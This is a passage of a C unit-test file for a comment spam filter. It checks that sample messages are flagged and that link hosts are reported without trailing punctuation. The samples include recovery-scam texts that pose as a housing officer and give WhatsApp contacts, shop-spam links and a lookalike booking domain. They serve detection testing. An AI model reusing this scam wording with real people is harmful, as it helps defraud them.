  };
  static const char * const spam[] = {
    "Beware of scammers! If someone asks you for money, contact Agent Mark on WhatsApp +1 555 201 7788, he is the "
    "real housing officer.",
    "Many scammers out there asking for deposits. I work with the real program, write to me on WhatsApp +221 77 "
    "123 45 67.",
    "Attention aux arnaques ! Quelqu'un vous demande de l'argent ? Écrivez-moi sur WhatsApp 77 123 45 67 pour la "
    "vraie inscription.",
  };

  assert_readers_and_spam (readers, G_N_ELEMENTS (readers), spam, G_N_ELEMENTS (spam));
}

/* A link's host ends where the sentence's punctuation starts: the
 * reason names the host itself, and the rules read its real ending
 * (".live", not ".live,") */
static void
test_spam_host_before_punctuation (void)
{
  static const struct { const char *content; const char *reason; } cases[] = {
    { "Great article! If anyone needs an electrician, check out https://cheap-electricians-usa.com, best prices.",
      "links to cheap-electricians-usa.com, which looks like a shop" },
    { "Great article! Shoes at https://cheap-shoes.shop. Visit now!", "links to cheap-shoes.shop, which looks" },
    { "Best shoes: https://cheap-shoes.shop! Visit now!", "links to cheap-shoes.shop, which looks" },
    { "Cheap hotels at booking.com-napoli-ofertas.live, best prices in Naples!",
      "a sale at booking.com-napoli-ofertas.live, an address" },
  };
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(BylineSpamVerdict) v = byline_spam_filter_classify (filter, &(BylineSpamSample) {
        .content = cases[i].content, .author_name = "Ana Reyes", .author_email = "ana.reyes@example.com",
      });

      g_test_message ("%.2f: %s", v->score, cases[i].content);
      g_assert_true (has_reason (v, cases[i].reason));
      g_assert_false (has_reason (v, ",,"));
      g_assert_false (has_reason (v, ".,"));
      g_assert_false (has_reason (v, "!,"));
    }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/spam/rules-untrained", test_spam_rules_untrained);
  g_test_add_func ("/spam/small-training", test_spam_small_training);
  g_test_add_func ("/spam/word-lists", test_spam_word_lists);
  g_test_add_func ("/spam/bayes-learns", test_spam_bayes_learns);
  g_test_add_func ("/spam/known-sources", test_spam_known_sources);
  g_test_add_func ("/spam/persistence", test_spam_persistence);
  g_test_add_func ("/spam/spot-check", test_spam_spot_check);
  g_test_add_func ("/spam/hostile-input", test_spam_hostile_input);
  g_test_add_func ("/spam/attack-markup", test_spam_attack_markup);
  g_test_add_func ("/spam/story-echoed-by", test_spam_story_echoed_by);
  g_test_add_func ("/spam/org-by-ending", test_spam_org_by_ending);
  g_test_add_func ("/spam/quoted-warning", test_spam_quoted_warning);
  g_test_add_func ("/spam/relayed-warning", test_spam_relayed_warning);
  g_test_add_func ("/spam/host-before-punctuation", test_spam_host_before_punctuation);
  g_test_add_func ("/spam/card-line-advice", test_spam_card_line_advice);
  g_test_add_func ("/spam/community-channel", test_spam_community_channel);
  g_test_add_func ("/spam/pastime-club-channel", test_spam_pastime_club_channel);
  g_test_add_func ("/spam/side-job-mentioned", test_spam_side_job_mentioned);
  g_test_add_func ("/spam/quoted-fraud-link", test_spam_quoted_fraud_link);
  g_test_add_func ("/spam/third-party-demand", test_spam_third_party_demand);

  return g_test_run ();
}
